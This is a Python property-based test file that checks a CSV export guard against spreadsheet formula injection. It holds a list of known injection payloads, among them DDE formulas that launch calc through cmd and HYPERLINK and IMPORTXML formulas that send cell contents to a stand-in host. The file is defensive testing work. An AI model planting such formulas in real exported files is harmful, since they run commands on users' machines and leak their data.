"""No cell begins as a formula, however the table is cut into cells, and every text comes back."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitmap.export import cells

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
BAD = re.compile(rf"[{re.escape(SIGNS)}\t\r\n]")
#: Payloads of the published lists of CSV injection, and the ways round a naive guard.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1-1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff201",
    '=HYPERLINK("http://x.example/?"&A1;"open")',
    '=IMPORTXML(CONCAT("http://x.example/?", A1); "//a")',
    '=DDE("cmd";"/C calc";"x")',
    "troops;=1+1",
    'troops;"=1+1',
    "troops\n=1+1",
    "troops\t@x",
    "troops\r\n-1+1",
    ";;=1",
    "=",
    "-",
)
PLAIN = (
    "",
    "troops",
    "8,000 to 10,000",
    "a = b",
    "a-b; c",
    "'quoted'",
    "North\u2013South",
    "1. one\n\n2. two",
)


def beginnings(text, separators):
    """Cells as a spreadsheet cuts a text that it does not know to be quoted, without their quotes."""
    return [cell.lstrip('"') for cell in re.split(rf"[{separators}\r\n]", text)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_text_in_every_reading(payload):
    guarded = cells.guarded(payload)
    assert guarded.startswith("'") or not BAD.match(payload.lstrip("\"'"))
    for separators in (";", "\t"):
        assert not any(re.match(rf"[{re.escape(SIGNS)}]", cell) for cell in beginnings(guarded, separators))
    assert cells.unguarded(guarded) == payload


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text):
    assert cells.guarded(text) == cells.unguarded(text) == text


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"\"';,\t\r\na1 "]), max_size=30) | st.text(max_size=60))
def test_every_text_comes_back(text):
    guarded = cells.guarded(text)
    assert cells.unguarded(guarded) == text
    assert not BAD.match(guarded)
    for separators in (";", "\t"):
        assert not any(re.match(rf"[{re.escape(SIGNS)}]", cell) for cell in beginnings(guarded, separators))


def test_a_table_is_rfc_4180_with_a_byte_order_mark():
    made = cells.table(["a", "b", "c"], [['x, "y"\r\nz', -5.0, None], ["", True, 3]])
    assert made == '\ufeffa,b,c\r\n"x, ""y""\r\nz",-5.0,\r\n,true,3\r\n'
    (_, first, _) = csv.reader(io.StringIO(made.removeprefix("\ufeff"), newline=""))
    assert first == ['x, "y"\r\nz', "-5.0", ""]


def test_a_long_run_of_quotes_is_read_once():
    text = '"' * 200_000 + ";" * 200_000
    assert cells.unguarded(cells.guarded(text)) == text
